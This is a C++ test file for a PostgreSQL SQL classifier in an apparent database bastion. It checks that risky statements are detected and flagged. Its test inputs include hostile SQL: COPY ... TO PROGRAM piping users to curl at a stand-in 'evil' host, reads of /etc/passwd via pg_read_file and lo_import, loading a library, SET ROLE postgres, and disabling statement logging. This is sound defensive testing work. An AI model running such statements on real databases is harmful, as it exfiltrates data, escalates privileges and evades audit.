#include <catch2/catch.hpp>

#include <algorithm>

#include "targets/postgres/sql_classifier.h"

using bastion::classify_sql;
using bastion::SqlStatement;
using V = std::vector<std::string>;

namespace {
SqlStatement one(const std::string& sql) {
  auto v = classify_sql(sql);
  REQUIRE(v.size() == 1);
  return v[0];
}
}  // namespace

TEST_CASE("splits exactly as the server would", "[sql]") {
  auto v = classify_sql("SELECT 1; SELECT ';' AS x; -- c;\nSELECT $$a;b$$; SELECT E'\\';'");
  REQUIRE(v.size() == 4);
  CHECK(v[0].text == "SELECT 1");
  CHECK(v[1].text == "SELECT ';' AS x");
  CHECK(v[2].text == "-- c;\nSELECT $$a;b$$");
  CHECK(v[3].text == "SELECT E'\\';'");
  CHECK(classify_sql("").empty());
  CHECK(classify_sql("  ;  ; ").empty());
}

TEST_CASE("statement kinds through comments and case", "[sql]") {
  CHECK(one("/* x */ DrOp TABLE people").kind == "drop");
  CHECK(one("/* x */ DrOp TABLE people").writes == V{"people"});
  CHECK(one("select * from public.users u join orders o on o.uid = u.id").kind == "select");
  CHECK(one("select * from public.users u join orders o on o.uid = u.id").reads == V{"public.users", "orders"});
  CHECK(one("INSERT INTO audit.log SELECT * FROM src").writes == V{"audit.log"});
  CHECK(one("INSERT INTO audit.log SELECT * FROM src").reads == V{"src"});
  CHECK(one("TRUNCATE a, b.c").kind == "truncate");
  CHECK(one("TRUNCATE a, b.c").writes == V{"a", "b.c"});
  CHECK(one("ALTER TABLE t ADD COLUMN c int").kind == "alter");
  CHECK(one("CREATE TABLE t2 (id int)").kind == "create");
  CHECK(one("GRANT SELECT ON t TO bob").kind == "grant");
  CHECK(one("REVOKE SELECT ON t FROM bob").kind == "revoke");
  CHECK(one("BEGIN").kind == "begin");
  CHECK(one("commit").kind == "commit");
  CHECK(one("ROLLBACK").kind == "rollback");
  CHECK(one("SET search_path = x").kind == "set");
  CHECK(one("CALL do_things(1)").kind == "call");
  CHECK(one("DO $$ BEGIN PERFORM 1; END $$").kind == "do");
  CHECK(one("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE").kind == "merge");
  CHECK_FALSE(one("SELECT 1").writes_data);
  CHECK(one("DELETE FROM t WHERE id = 1").writes_data);
}

TEST_CASE("writes hidden in reads are found", "[sql]") {
  auto cte = one("WITH d AS (DELETE FROM a.b RETURNING *) SELECT * FROM d JOIN c ON true");
  CHECK(cte.kind == "select");
  CHECK(cte.writes_data);
  CHECK(cte.writes == V{"a.b"});
  CHECK(cte.reads == V{"c"});  // d is the CTE, not a table
  CHECK_FALSE(cte.has_where);
  auto into = one("SELECT * INTO new_table FROM users");
  CHECK(into.writes_data);
  CHECK(into.writes == V{"new_table"});
  CHECK(into.reads == V{"users"});
  auto analyze = one("EXPLAIN ANALYZE DELETE FROM orders");
  CHECK(analyze.kind == "delete");
  CHECK(analyze.writes == V{"orders"});
  CHECK_FALSE(analyze.has_where);
  auto plain = one("EXPLAIN DELETE FROM orders");
  CHECK(plain.kind == "explain");
  CHECK_FALSE(plain.writes_data);
  CHECK(plain.reads == V{"orders"});
}

TEST_CASE("UPDATE and DELETE without WHERE", "[sql]") {
  CHECK_FALSE(one("UPDATE accounts SET balance = 0").has_where);
  CHECK(one("UPDATE accounts SET balance = 0 WHERE id = 5").has_where);
  CHECK_FALSE(one("delete from sessions").has_where);
  CHECK(one("DELETE FROM sessions WHERE expires < now()").has_where);
  CHECK(one("SELECT 1").has_where);
}

TEST_CASE("COPY and functions with side effects", "[sql]") {
  auto prog = one("COPY users TO PROGRAM 'curl -d @- http://evil'");
  CHECK(prog.kind == "copy");
  CHECK(prog.copy_program);
  CHECK(prog.reads == V{"users"});
  auto from = one("COPY users FROM '/tmp/x.csv'");
  CHECK(from.writes == V{"users"});
  CHECK(from.writes_data);
  CHECK_FALSE(from.copy_program);
  auto f = one("SELECT pg_terminate_backend(pid), pg_catalog.pg_read_file('/etc/passwd') FROM pg_stat_activity");
  CHECK(f.functions == V{"pg_terminate_backend", "pg_catalog.pg_read_file"});
  CHECK(f.reads == V{"pg_stat_activity"});
}

TEST_CASE("unparseable input is reported, not dropped", "[sql]") {
  auto v = classify_sql("SELEC 1; SELECT 2");
  REQUIRE(v.size() == 2);
  CHECK(v[0].kind == "unknown");
  CHECK(v[0].parse_error == "syntax error at or near \"SELEC\"");
  CHECK(v[1].kind == "select");
  CHECK(v[1].parse_error.empty());
  auto middle = classify_sql("SELECT 1; SELEC 2; SELECT 3");
  REQUIRE(middle.size() == 3);
  CHECK(middle[1].text == "SELEC 2");
  CHECK(middle[1].kind == "unknown");
  CHECK(middle[2].kind == "select");
  auto unterminated = classify_sql("SELECT 'open");
  REQUIRE(unterminated.size() == 1);
  CHECK(unterminated[0].kind == "unknown");
  CHECK_FALSE(unterminated[0].parse_error.empty());
  // Nested past what the walker reads: refused as unanalysable, not passed as seen.
  std::string deep = "SELECT ";
  for (int i = 0; i < 300; ++i) deep += "1 + (";
  deep += "lo_import('/x')" + std::string(300, ')');
  CHECK(one(deep).parse_error == "statement nested too deeply to analyse");
  std::string shallow = "SELECT ";
  for (int i = 0; i < 100; ++i) shallow += "1 + (";
  shallow += "lo_import('/x')" + std::string(100, ')');
  CHECK(one(shallow).parse_error.empty());
  CHECK(one(shallow).opaque_reasons == V{"large-object function lo_import"});
  CHECK(one("EXPLAIN " + deep).parse_error == "statement nested too deeply to analyse");
  auto huge = classify_sql(std::string(bastion::kSqlMaxInput + 1, ' '));
  REQUIRE(huge.size() == 1);
  CHECK(huge[0].parse_error == "input too large for the bastion to analyse (more than 1 MiB in one input)");
  CHECK(huge[0].over_limit);
  CHECK(huge[0].syntax_error);  // refused as invalid on every path, whatever a policy says
}

TEST_CASE("statements past the cap end in one that is refused wherever it goes", "[sql]") {
  // A wire Query is forwarded whole once its statements are allowed: the
  // ones past the cap must not ride along undecided (an outside review).
  const std::string why = "more than 10000 statements in one input; the bastion does not analyse the rest: "
                          "send fewer at a time";
  auto repeat = [](const std::string& s, std::size_t n) {
    std::string out;
    for (std::size_t i = 0; i < n; ++i) out += s;
    return out;
  };
  const auto at_cap = classify_sql(repeat("SELECT 1;", bastion::kSqlMaxStatements));
  CHECK(at_cap.size() == bastion::kSqlMaxStatements);
  CHECK(std::none_of(at_cap.begin(), at_cap.end(), [](const auto& s) { return s.over_limit || s.syntax_error; }));
  for (const std::string& input : {repeat("SELECT 1;", bastion::kSqlMaxStatements) + "DELETE FROM orders",
                                   repeat("SELECT 1;", 2 * bastion::kSqlMaxStatements) + "DELETE FROM orders",
                                   // with a syntax error: the scanner's split, capped the same
                                   "SELEC 1;" + repeat("SELECT 1;", bastion::kSqlMaxStatements)}) {
    const auto past = classify_sql(input);
    REQUIRE(past.size() == bastion::kSqlMaxStatements + 1);
    const auto& last = past.back();
    CHECK(last.over_limit);
    CHECK(last.syntax_error);
    CHECK(last.kind == "unknown");
    CHECK(last.parse_error == why);
    CHECK_FALSE(last.text.empty());
    CHECK(std::count_if(past.begin(), past.end(), [](const auto& s) { return s.over_limit; }) == 1);
  }
}

// --- what the classifier cannot see, it says (issue 11) ---------------------

namespace {
using bastion::SqlSetting;
using S = std::vector<SqlSetting>;
V reasons(const std::string& sql) { return one(sql).opaque_reasons; }
}  // namespace

TEST_CASE("statements that run code the text does not show are opaque", "[sql]") {
  CHECK(reasons("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$") == V{"DO block"});
  CHECK(one("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$").opaque);
  CHECK(reasons("CALL do_things(1)") == V{"CALL"});
  CHECK(reasons("EXECUTE p(1)") == V{"EXECUTE of a prepared statement"});
  CHECK(one("EXECUTE p(1)").writes_data);
  CHECK(reasons("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'") == V{"CREATE FUNCTION"});
  CHECK(reasons("CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'select 1'") == V{"CREATE PROCEDURE"});
  CHECK(reasons("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END") == V{"CREATE FUNCTION"});
  CHECK(reasons("CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT 1") == V{"CREATE RULE"});
  CHECK(reasons("CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()") == V{"CREATE TRIGGER"});
  CHECK(reasons("CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()") == V{"CREATE EVENT TRIGGER"});
  CHECK(reasons("CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = f)") == V{"CREATE OPERATOR"});
  CHECK(reasons("CREATE AGGREGATE a(int) (SFUNC = f, STYPE = int)") == V{"CREATE AGGREGATE"});
  CHECK(reasons("CREATE CAST (int AS text) WITH FUNCTION f(int)") == V{"CREATE CAST"});
  CHECK(reasons("CREATE LANGUAGE plfoo HANDLER h") == V{"CREATE LANGUAGE"});
  CHECK(reasons("CREATE EXTENSION dblink") == V{"CREATE EXTENSION"});
  CHECK(reasons("ALTER FUNCTION f() SECURITY DEFINER") == V{"ALTER FUNCTION"});
  CHECK(reasons("ALTER FUNCTION f() OWNER TO postgres") == V{"ALTER FUNCTION ... OWNER TO"});
  CHECK(reasons("LOAD 'evil'") == V{"LOAD of a shared library"});
  CHECK(reasons("COPY (SELECT 1) TO PROGRAM 'id'") == V{"COPY ... PROGRAM"});
  CHECK(reasons("COPY t FROM PROGRAM 'id'") == V{"COPY ... PROGRAM"});
  CHECK(reasons("CREATE TABLE x AS EXECUTE p") == V{"EXECUTE of a prepared statement"});
  CHECK(reasons("EXPLAIN ANALYZE EXECUTE p") == V{"EXECUTE of a prepared statement"});
  // Visible in the text: not opaque.
  for (const char* sql : {"SELECT count(*), max(id), lower(name) FROM customers", "CREATE TABLE t (id int)",
                          "CREATE TYPE mood AS ENUM ('a')", "DROP FUNCTION f()", "SET search_path = x",
                          "SELECT a FROM t WHERE a BETWEEN 1 AND 2 AND b LIKE 'x%' AND c = ANY ('{1}')",
                          "SELECT 1 OPERATOR(pg_catalog.+) 1", "SELECT * FROM t TABLESAMPLE SYSTEM (10)",
                          "SELECT extract(year FROM now()), substring('ab' FROM 1), trim(' a ')",
                          "COPY t TO STDOUT", "PREPARE q AS SELECT * FROM t WHERE id = $1"}) {
    INFO(sql);
    CHECK_FALSE(one(sql).opaque);
    CHECK(one(sql).opaque_reasons.empty());
  }
}

TEST_CASE("functions and operators outside the catalog are opaque", "[sql]") {
  CHECK(reasons("SELECT public.f()") == V{"function public.f is not a known side-effect-free function"});
  CHECK(reasons("SELECT f(1)") == V{"function f is not a known side-effect-free function"});
  CHECK(reasons("SELECT email FROM all_customers()") ==
        V{"function all_customers is not a known side-effect-free function"});
  CHECK(reasons("SELECT LOWER(name) FROM t").empty());  // folded to lower
  // pgbench's start-up query: current_schemas reads the session's search_path only.
  CHECK(reasons("SELECT pg_catalog.array_position(pg_catalog.current_schemas(true), 'public')").empty());
  CHECK(reasons("SELECT \"Lower\"(name) FROM t") == V{"function Lower is not a known side-effect-free function"});
  CHECK(reasons("SELECT \"PG_CATALOG\".lower(name) FROM t") ==
        V{"function PG_CATALOG.lower is not a known side-effect-free function"});
  CHECK(reasons("SELECT lo_import('/etc/passwd')") == V{"large-object function lo_import"});
  CHECK(reasons("SELECT pg_create_logical_replication_slot('s','test_decoding')") ==
        V{"replication function pg_create_logical_replication_slot"});
  CHECK(reasons("SELECT pg_catalog.pg_terminate_backend(1)") == V{"server-state function pg_catalog.pg_terminate_backend"});
  CHECK(reasons("SELECT current_setting('x.y')") == V{"settings function current_setting"});
  CHECK(reasons("SELECT 1 OPERATOR(public.+) 1") == V{"operator public.+ is not a known built-in operator"});
  CHECK(reasons("SELECT 1 === 1") == V{"operator === is not a known built-in operator"});
  CHECK(reasons("SELECT 1 WHERE 1 OPERATOR(public.=) ANY (SELECT 1)") ==
        V{"operator public.= is not a known built-in operator"});
  CHECK(reasons("SELECT a FROM t ORDER BY a USING OPERATOR(public.<)") == V{"operator public.< is not a known built-in operator"});
  CHECK(reasons("SELECT * FROM t TABLESAMPLE evil (1)") == V{"TABLESAMPLE method evil"});
  // Inside a CTE, a subquery, a default, and in plain EXPLAIN (constant folding runs it).
  CHECK(reasons("WITH x AS (SELECT public.f()) SELECT * FROM x") ==
        V{"function public.f is not a known side-effect-free function"});
  CHECK(reasons("CREATE TABLE t (a int DEFAULT f())") == V{"function f is not a known side-effect-free function"});
  CHECK(reasons("EXPLAIN SELECT public.f()") == V{"function public.f is not a known side-effect-free function"});
  auto many = one("SELECT lo_import('/x'), public.f(), lo_import('/y')");
  CHECK(many.opaque_reasons == V{"large-object function lo_import", "function public.f is not a known side-effect-free function"});
}

TEST_CASE("query-string and statistics readers are reported", "[sql]") {
  auto q = one("SELECT query_to_xml('select email from customers', true, false, '')");
  CHECK(q.query_string);
  CHECK(q.opaque_reasons == V{"query-string function query_to_xml"});
  CHECK_FALSE(one("SELECT lower('a')").query_string);
  for (const char* sql : {"SELECT histogram_bounds FROM pg_stats WHERE tablename = 'customers'",
                          "SELECT * FROM pg_catalog.pg_statistic", "SELECT * FROM pg_stats_ext_exprs",
                          "SELECT query FROM public.pg_stat_statements", "SELECT query FROM pg_stat_activity",
                          "SELECT * FROM pg_stat_statements(true)"}) {
    INFO(sql);
    CHECK(one(sql).reads_statistics);
  }
  CHECK_FALSE(one("SELECT * FROM pg_stat_user_tables").reads_statistics);
  CHECK_FALSE(one("SELECT * FROM customers").reads_statistics);
}

TEST_CASE("COPY TO is a read, COPY FROM a write", "[sql]") {
  auto to = one("COPY customers TO STDOUT");
  CHECK(to.kind == "copy");
  CHECK(to.copy_to);
  CHECK_FALSE(to.writes_data);
  CHECK(to.reads == V{"customers"});
  CHECK(to.writes.empty());
  auto query = one("COPY (SELECT email FROM customers) TO STDOUT WITH (FORMAT csv)");
  CHECK(query.copy_to);
  CHECK_FALSE(query.writes_data);
  CHECK(query.reads == V{"customers"});
  auto file = one("COPY customers TO '/tmp/c.csv'");  // reads the table, writes a file on the server
  CHECK(file.copy_to);
  CHECK(file.writes_data);
  CHECK(file.reads == V{"customers"});
  CHECK(file.writes.empty());
  auto prog = one("COPY (SELECT 1) TO PROGRAM 'id'");
  CHECK(prog.copy_to);
  CHECK(prog.copy_program);
  CHECK(prog.opaque);
  CHECK(prog.writes_data);
  auto from = one("COPY customers FROM STDIN");
  CHECK_FALSE(from.copy_to);
  CHECK(from.writes_data);
  CHECK(from.writes == V{"customers"});
  auto returning = one("COPY (DELETE FROM t RETURNING *) TO STDOUT");
  CHECK(returning.copy_to);
  CHECK(returning.writes_data);
  CHECK(returning.writes == V{"t"});
  CHECK_FALSE(returning.has_where);
}

TEST_CASE("CTEs and PREPARE carry their statement's facts", "[sql]") {
  auto cte = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
  CHECK(cte.kind == "select");
  CHECK(cte.writes_data);
  CHECK_FALSE(cte.has_where);
  CHECK(cte.writes == V{"t"});
  CHECK(cte.reads.empty());
  auto p = one("PREPARE p AS DELETE FROM t");
  CHECK(p.kind == "prepare");
  CHECK(p.writes_data);
  CHECK_FALSE(p.has_where);
  CHECK(p.writes == V{"t"});
  CHECK(p.opaque_reasons == V{"PREPARE of a statement that is not a plain SELECT"});
  auto pu = one("PREPARE p (int) AS UPDATE t SET a = $1");
  CHECK_FALSE(pu.has_where);
  CHECK(pu.opaque);
  CHECK(one("PREPARE p AS INSERT INTO t VALUES (1)").opaque);
  CHECK(one("PREPARE p AS WITH d AS (DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM d").opaque);
  auto ps = one("PREPARE p AS SELECT * FROM t WHERE id = $1");
  CHECK_FALSE(ps.opaque);
  CHECK_FALSE(ps.writes_data);
  CHECK(ps.reads == V{"t"});
  auto ea = one("EXPLAIN ANALYZE WITH d AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM d");
  CHECK(ea.kind == "select");
  CHECK(ea.writes_data);
  CHECK_FALSE(ea.has_where);
}

TEST_CASE("objects made from what a statement reads", "[sql]") {
  auto ctas = one("CREATE TABLE c2 AS SELECT * FROM customers");
  CHECK(ctas.creates_object_from == V{"customers"});
  CHECK(ctas.writes == V{"c2"});  // the new table is written, not read
  CHECK(ctas.reads == V{"customers"});
  CHECK(one("CREATE TEMP TABLE c2 AS SELECT email FROM public.customers c").creates_object_from ==
        V{"public.customers"});
  CHECK(one("SELECT email INTO c2 FROM customers").creates_object_from == V{"customers"});
  CHECK(one("CREATE VIEW v AS SELECT email AS e FROM customers").creates_object_from == V{"customers"});
  CHECK(one("CREATE MATERIALIZED VIEW v AS SELECT email FROM customers").creates_object_from == V{"customers"});
  CHECK(one("INSERT INTO scratch SELECT email FROM customers").creates_object_from == V{"customers"});
  CHECK(one("UPDATE scratch SET x = c.email FROM customers c WHERE c.id = 1").creates_object_from ==
        V{"customers"});
  CHECK(one("WITH i AS (INSERT INTO scratch SELECT email FROM customers RETURNING 1) SELECT 1")
            .creates_object_from == V{"customers"});
  CHECK(one("DECLARE c CURSOR FOR SELECT email FROM customers").creates_object_from == V{"customers"});
  CHECK(one("PREPARE p AS SELECT email FROM customers").creates_object_from == V{"customers"});
  CHECK(one("SELECT email FROM customers").creates_object_from.empty());
  CHECK(one("DELETE FROM customers WHERE id = 1 RETURNING email").creates_object_from.empty());
  CHECK(one("INSERT INTO scratch VALUES (1)").creates_object_from.empty());
  CHECK(one("EXPLAIN CREATE TABLE c2 AS SELECT * FROM customers").creates_object_from.empty());
}

TEST_CASE("session settings a statement changes", "[sql]") {
  CHECK(one("SET U&\"\\0072ole\" = 'postgres'").sets == S{{"role", "postgres", false}});
  CHECK(one("SET ROLE postgres").sets == S{{"role", "postgres", false}});
  CHECK(one("SET \"ROLE\" TO postgres").sets == S{{"role", "postgres", false}});
  CHECK(one("SET SESSION AUTHORIZATION bob").sets == S{{"session_authorization", "bob", false}});
  CHECK(one("SET SESSION AUTHORIZATION DEFAULT").sets == S{{"session_authorization", "", true}});
  CHECK(one("RESET ROLE").sets == S{{"role", "", true}});
  CHECK(one("RESET ALL").sets == S{{"all", "", true}});
  CHECK(one("DISCARD ALL").sets == S{{"all", "", true}});
  CHECK(one("SET LOCAL log_statement = 'none'").sets == S{{"log_statement", "none", false}});
  CHECK(one("SET search_path = public, pg_catalog").sets == S{{"search_path", "public, pg_catalog", false}});
  CHECK(one("SET statement_timeout TO DEFAULT").sets == S{{"statement_timeout", "", true}});
  CHECK(one("SET TIME ZONE 'UTC'").sets == S{{"timezone", "UTC", false}});
  CHECK(one("SET TRANSACTION READ WRITE").sets == S{{"transaction_read_only", "off", false}});
  CHECK(one("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ ONLY").sets ==
        S{{"transaction_isolation", "serializable", false}, {"transaction_read_only", "on", false}});
  CHECK(one("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE").sets ==
        S{{"default_transaction_read_only", "off", false}});
  CHECK(one("BEGIN READ WRITE").sets == S{{"transaction_read_only", "off", false}});
  CHECK(one("START TRANSACTION ISOLATION LEVEL REPEATABLE READ").sets ==
        S{{"transaction_isolation", "repeatable read", false}});
  CHECK(one("BEGIN").sets.empty());
  CHECK(one("SELECT set_config('log_statement', 'none', false)").sets == S{{"log_statement", "none", false}});
  CHECK(one("SELECT pg_catalog.set_config('ROLE', 'postgres', true)").sets == S{{"role", "postgres", false}});
  auto expr = one("SELECT set_config(name, 'x', false) FROM t");
  CHECK(expr.sets.empty());
  CHECK(expr.opaque_reasons == V{"settings function set_config", "set_config of a setting named by an expression"});
  CHECK(one("SELECT set_config('a.b', (SELECT email FROM customers LIMIT 1), false)").sets == S{{"a.b", "", false}});
  CHECK(one("ALTER ROLE bob SET search_path = x").sets == S{{"search_path", "x", false}});
  CHECK(one("ALTER DATABASE d RESET ALL").sets == S{{"all", "", true}});
  CHECK(one("ALTER SYSTEM SET log_statement = 'none'").sets == S{{"log_statement", "none", false}});
  CHECK(one("SELECT 1").sets.empty());
  CHECK(one("SHOW role").sets.empty());
}

TEST_CASE("the facts a policy sees carry every new field", "[sql]") {
  const auto f = bastion::sql_facts(one("COPY (SELECT lo_import('/x')) TO STDOUT"));
  CHECK(f.statement == "copy");
  CHECK(f.copy_to);
  CHECK(f.opaque);
  CHECK(f.opaque_reasons == V{"large-object function lo_import"});
  CHECK_FALSE(f.writes_data);
  const auto g = bastion::sql_facts(one("CREATE VIEW v AS SELECT query_to_xml('x', true, true, ''), * FROM pg_stats"));
  CHECK(g.query_string);
  CHECK(g.reads_statistics);
  CHECK(g.creates_object_from == V{"pg_stats"});
  CHECK(bastion::sql_facts(one("RESET ALL")).sets == S{{"all", "", true}});
}

TEST_CASE("CTE names are resolved by scope, as PostgreSQL does", "[sql]") {
  // A WITH elsewhere in the statement does not hide the real table (attack:
  // it emptied reads, so masks and withheld errors did not apply).
  CHECK(one("SELECT upper(email) FROM customers WHERE EXISTS (WITH customers AS (SELECT 1) SELECT 1)").reads ==
        V{"customers"});
  CHECK(one("SELECT * FROM (WITH customers AS (SELECT 1) SELECT 1) s, customers").reads == V{"customers"});
  // Inside a non-recursive CTE's own body, its name is the table.
  CHECK(one("WITH customers AS (SELECT email FROM customers) SELECT * FROM customers").reads == V{"customers"});
  // Later CTEs, the statement and its subqueries see it.
  CHECK(one("WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b WHERE EXISTS (SELECT * FROM a)").reads ==
        V{});
  CHECK(one("WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 3) SELECT * FROM t").reads ==
        V{});
  // DML with a WITH list.
  const auto d = one("WITH x AS (SELECT id FROM orders) DELETE FROM t USING x WHERE t.id = x.id");
  CHECK(d.reads == V{"orders"});
  CHECK(d.writes == V{"t"});
  CHECK(one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d").writes == V{"t"});
}
